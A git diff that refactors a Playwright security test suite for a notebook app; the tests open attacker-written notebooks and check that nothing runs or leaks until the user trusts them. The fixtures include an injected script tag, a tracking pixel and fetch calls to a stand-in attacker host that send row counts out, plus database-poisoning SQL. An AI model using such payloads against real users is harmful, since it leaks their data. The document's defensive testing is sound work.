@@ -3,7 +3,7 @@ import type { AddressInfo } from "node:net";
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { OUTPUT, startHarness, type Harness } from "./harness.ts";
-import { cell, cells, ready, typeCode } from "./helpers.ts";
+import { cell, cells, notebookText, openUntrusted, ready, startApp, typeCode } from "./helpers.ts";
 
 /**
  * A colleague's notebook, opened as a careful attacker would write it. Every probe has a
@@ -50,24 +50,8 @@ function nothingLeft(): void {
   expect(received).toEqual([]);
 }
 
-/** A fresh profile with the app started: the engine is up (the first notebook may still run). */
-async function openApp(): Promise<Page> {
-  const page = await harness.newPage();
-  await page.goto(harness.origin);
-  await page
-    .getByRole("status", { name: "Engine status" })
-    .getByText(/DuckDB v\d/)
-    .waitFor({ timeout: 60_000 });
-  return page;
-}
-
-async function openFile(page: Page, name: string, text: string): Promise<void> {
-  await page
-    .getByLabel("Open notebook file")
-    .setInputFiles({ name, mimeType: "text/markdown", buffer: Buffer.from(text) });
-  await page.getByRole("button", { name: "Trust and run" }).waitFor();
-  await ready(page);
-}
+const openApp = () => startApp(harness);
+const openFile = openUntrusted;
 
 const status = (page: Page, label: string) => cell(page, label).getByRole("status");
 
@@ -82,11 +66,7 @@ describe("an untrusted notebook has no effect", () => {
     await openFile(
       page,
       "leaky.md",
-      [
-        "---",
-        "title: Leaky",
-        "---",
-        "",
+      notebookText("Leaky", [
         `![pixel](${evil}/prose-image.png)`,
         "",
         "```sql rows",
@@ -97,7 +77,7 @@ describe("an untrusted notebook has no effect", () => {
         `await fetch("${evil}/ts-ran?" + rows.numRows)`,
         "```",
         "",
-      ].join("\n"),
+      ]),
     );
     const url = page.url();
     expect(await status(page, "SQL cell rows").textContent()).toBe("not run (untrusted)");
@@ -127,11 +107,7 @@ describe("an untrusted notebook has no effect", () => {
     await openFile(
       page,
       "prose.md",
-      [
-        "---",
-        "title: Prose attacks",
-        "---",
-        "",
+      notebookText("Prose attacks", [
         "# Quarterly review",
         "",
         `<script>fetch("${evil}/script")</script>`,
@@ -148,7 +124,7 @@ describe("an untrusted notebook has no effect", () => {
         `await fetch("${evil}/ts")`,
         "```",
         "",
-      ].join("\n"),
+      ]),
     );
     // Clicks all over the page, as someone reading it would: the trust banner stays.
     for (const [x, y] of [
@@ -183,7 +159,7 @@ describe("links in prose", () => {
     await openFile(
       page,
       "links.md",
-      ["---", "title: Links", "---", "", `Read [the docs](${evil}/docs) first.`, ""].join("\n"),
+      notebookText("Links", [`Read [the docs](${evil}/docs) first.`, ""]),
     );
     await settle(page);
     expect(received).toEqual([]);
@@ -201,11 +177,7 @@ describe("links in prose", () => {
 });
 
 describe("trust is a decision about exact content", () => {
-  const two = [
-    "---",
-    "title: Two cells",
-    "---",
-    "",
+  const two = notebookText("Two cells", [
     "```sql rows",
     "SELECT 7 AS n",
     "```",
@@ -214,7 +186,7 @@ describe("trust is a decision about exact content", () => {
     "rows.getChild('n').get(0) * 2",
     "```",
     "",
-  ].join("\n");
+  ]);
 
   it("Run on one cell of an untrusted notebook asks first, runs that cell alone, and trusts nothing", async () => {
     const page = await openApp();
@@ -279,11 +251,7 @@ describe("trusted code is contained in the notebook frame", () => {
     await openFile(
       page,
       "contained.md",
-      [
-        "---",
-        "title: Contained",
-        "---",
-        "",
+      notebookText("Contained", [
         "```ts tries",
         "const out = {};",
         "const attempt = async (name, fn) => {",
@@ -306,7 +274,7 @@ describe("trusted code is contained in the notebook frame", () => {
         "out",
         "```",
         "",
-      ].join("\n"),
+      ]),
     );
     await page.getByRole("button", { name: "Trust and run" }).click();
     await ready(page);
@@ -344,11 +312,7 @@ describe("one notebook's database is not the next one's", () => {
     await openFile(
       page,
       "poison.md",
-      [
-        "---",
-        "title: Poison",
-        "---",
-        "",
+      notebookText("Poison", [
         "```ts left",
         "await sql`CREATE OR REPLACE TEMP VIEW sales AS SELECT 'POISONED' AS region, -1 AS amount`;",
         "await sql`CREATE MACRO total(x) AS x * 0`;",
@@ -358,7 +322,7 @@ describe("one notebook's database is not the next one's", () => {
         "'left behind'",
         "```",
         "",
-      ].join("\n"),
+      ]),
     );
     await page.getByRole("button", { name: "Trust and run" }).click();
     await ready(page);
@@ -368,11 +332,7 @@ describe("one notebook's database is not the next one's", () => {
     await openFile(
       page,
       "victim.md",
-      [
-        "---",
-        "title: Victim",
-        "---",
-        "",
+      notebookText("Victim", [
         "```ts found",
         "const names = async (q) => (await sql([q])).toArray().map((r) => Object.values(r.toJSON()).join('.'));",
         "JSON.stringify({",
@@ -384,7 +344,7 @@ describe("one notebook's database is not the next one's", () => {
         "})",
         "```",
         "",
-      ].join("\n"),
+      ]),
     );
     await page.getByRole("button", { name: "Trust and run" }).click();
     await ready(page);
@@ -409,11 +369,7 @@ describe("charts in the frame stay interactive", () => {
     await openFile(
       page,
       "tips.md",
-      [
-        "---",
-        "title: Tips",
-        "---",
-        "",
+      notebookText("Tips", [
         "```ts",
         "Plot.plot({",
         "  width: 480,",
@@ -422,7 +378,7 @@ describe("charts in the frame stay interactive", () => {
         "})",
         "```",
         "",
-      ].join("\n"),
+      ]),
     );
     await page.getByRole("button", { name: "Trust and run" }).click();
     await ready(page);
@@ -438,11 +394,7 @@ describe("charts in the frame stay interactive", () => {
 });
 
 describe("a runaway cell", () => {
-  const runaway = [
-    "---",
-    "title: Runaway",
-    "---",
-    "",
+  const runaway = notebookText("Runaway", [
     "```sql before",
     "SELECT 41 + 1 AS answer",
     "```",
@@ -455,7 +407,7 @@ describe("a runaway cell", () => {
     "before.numRows",
     "```",
     "",
-  ].join("\n");
+  ]);
 
   it("shows as running with a Stop button in the app, which stays usable; Stop ends it and nothing is lost", async () => {
     const page = await openApp();
